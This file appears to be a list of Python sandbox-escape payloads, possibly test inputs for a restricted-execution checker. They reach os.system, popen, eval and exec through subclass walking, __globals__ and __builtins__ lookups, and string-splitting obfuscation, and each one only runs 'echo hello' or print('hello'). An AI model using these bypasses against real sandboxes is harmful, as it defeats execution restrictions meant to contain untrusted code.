import warnings
x = [c for c in ().__class__.__bases__[0].__subclasses__() if c.__name__ == "catch_warnings"][0]()
x._module.__builtins__["__import__"]("os").system("echo hello")
# ---
def f(): pass
g = getattr(f, "__glo" + "bals__")
g["__builtins__"].exec("print('hello')")
# ---
from functools import reduce
o = reduce(getattr, ["__class__", "__base__"], ())
w = [c for c in getattr(o, "__subclasses__")() if c.__name__ == "_wrap_close"][0]
w.__init__.__globals__["system"]("echo hello")
# ---
class A:
    def __init__(self): pass
A.__init__.__globals__["__builtins__"].eval("print('hello')")
# ---
[].__class__.__bases__[0].__subclasses__()
x = [c for c in [].__class__.__bases__[0].__subclasses__() if c.__name__ == "_ModuleLock"]
x[0].__init__.__globals__["__builtins__"]["__import__"]("os").system("echo hello")
# ---
o = type.mro(type(()))[-1]
w = [c for c in type.__subclasses__(o) if c.__name__ == "_wrap_close"][0]
w.__init__.__globals__["system"]("echo hello")
# ---
w = [c for c in object.__subclasses__() if c.__name__ == "_wrap_close"][0]
w.__init__.__globals__["system"]("echo hello")
# ---
"".__class__.__mro__[-1].__subclasses__()[0]
print([c for c in "".__class__.__mro__[1].__subclasses__() if "wrap_close" in c.__name__][0].close.__globals__["popen"]("echo hello").read())
# ---
for c in ().__class__.__base__.__subclasses__():
    if c.__name__ == "_wrap_close":
        c.__init__.__globals__["system"]("echo hello")
# ---
u = "_" * 2
c = getattr((), u + "class" + u)
b = getattr(c, u + "base" + u)
s = getattr(b, u + "subclasses" + u)()
w = [i for i in s if "wrap_close" in str(i)][0]
getattr(getattr(w, u + "init" + u), u + "globals" + u)["system"]("echo hello")
# ---
__builtins__.eval("print('hello')")
# ---
__builtins__.__dict__["eval"]("print('hello')")
# ---
[v for k, v in vars(__builtins__).items() if k == "ex" + "ec"][0]("print('hello')")
# ---
def f(): pass
f.__builtins__["exec"]("print('hello')")
# ---
def f():
    global __builtins__
    return __builtins__
f().eval("print('hello')")
# ---
globals()["__builtins__"].eval("print('hello')")
# ---
g = globals()
k = [k for k in g if "built" in k][0]
g[k].exec("print('hello')")
# ---
help.__call__.__builtins__["eval"]("print('hello')")
# ---
(lambda: 0).__globals__["__builtins__"].eval("print('hello')")
# ---
license.__call__.__globals__["sys"].modules["os"].system("echo hello") if hasattr(license.__call__, "__globals__") else exit.__class__.__init__.__globals__["sys"].modules["os"].system("echo hello")
# ---
locals()["__builtins__"].exec("print('hello')")
# ---
import __main__
__main__.__builtins__.eval("print('hello')")
# ---
exit.__class__.__call__.__globals__["sys"].modules["os"].system("echo hello") if 'sys' in exit.__class__.__call__.__globals__ else 0
# ---
print.__self__.eval("print('hello')")
# ---
len.__self__.__dict__["exec"]("print('hello')")
# ---
import sys
sys.modules["os"].system("echo hello")
# ---
import sys
sys.modules.get("posix").system("echo hello")
# ---
from sys import modules as m
for name in m:
    if name == "o" "s":
        m[name].system("echo hello")
        break
# ---
vars()["__builtins__"].exec("print('hello')")
